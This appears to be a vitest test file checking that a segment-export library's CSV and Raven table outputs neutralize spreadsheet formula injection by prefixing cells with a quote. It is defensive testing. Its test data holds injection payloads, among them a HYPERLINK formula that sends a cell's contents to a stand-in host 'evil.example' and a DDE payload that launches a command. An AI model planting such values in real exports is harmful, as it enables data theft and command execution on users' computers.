// Issue 8 #9: text from users must not become a spreadsheet formula in our exports.
import { describe, expect, it } from "vitest";
import { exportRavenTable, exportSegmentsCsv, neutralizeCell, parseSegmentsCsv } from "../src/index.ts";

const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"];

describe("neutralizeCell", () => {
  it("prefixes every formula start with a quote and leaves other text and plain numbers alone", () => {
    for (const e of EVIL) expect(neutralizeCell(e)).toBe(`'${e}`);
    for (const ok of ["Echo", "FM-QCF", "-0.5", "+3", "1e-3", "", "a=b"]) expect(neutralizeCell(ok)).toBe(ok);
  });
});

describe("segment exports", () => {
  const segments = [
    { onset: 0.1, offset: 0.2, label: EVIL[0], notes: "=cmd|' /C calc'!A0" },
    { onset: 0.3, offset: 0.4, label: "@SUM(A1)", notes: "keep=1; other=-2+3" },
  ];

  it("CSV cells never start with a formula character", () => {
    const csv = exportSegmentsCsv(segments);
    const cells = csv
      .trim()
      .split("\n")
      .flatMap((line) => line.split(","))
      .map((c) => c.replace(/^"/, ""));
    for (const c of cells) if (!/^-?\d/.test(c)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`'@SUM(A1)`);
    // still a readable table: the label comes back with the visible quote
    const back = parseSegmentsCsv(csv);
    expect(back.segments[1]?.label).toBe("'@SUM(A1)");
  });

  it("Raven cells never start with a formula character", () => {
    const raven = exportRavenTable(segments);
    for (const line of raven.trim().split("\n"))
      for (const c of line.split("\t")) if (!/^-?\d/.test(c)) expect(c).not.toMatch(/^[=+\-@\r]/);
    expect(raven).toContain(`'=HYPERLINK(`);
  });
});
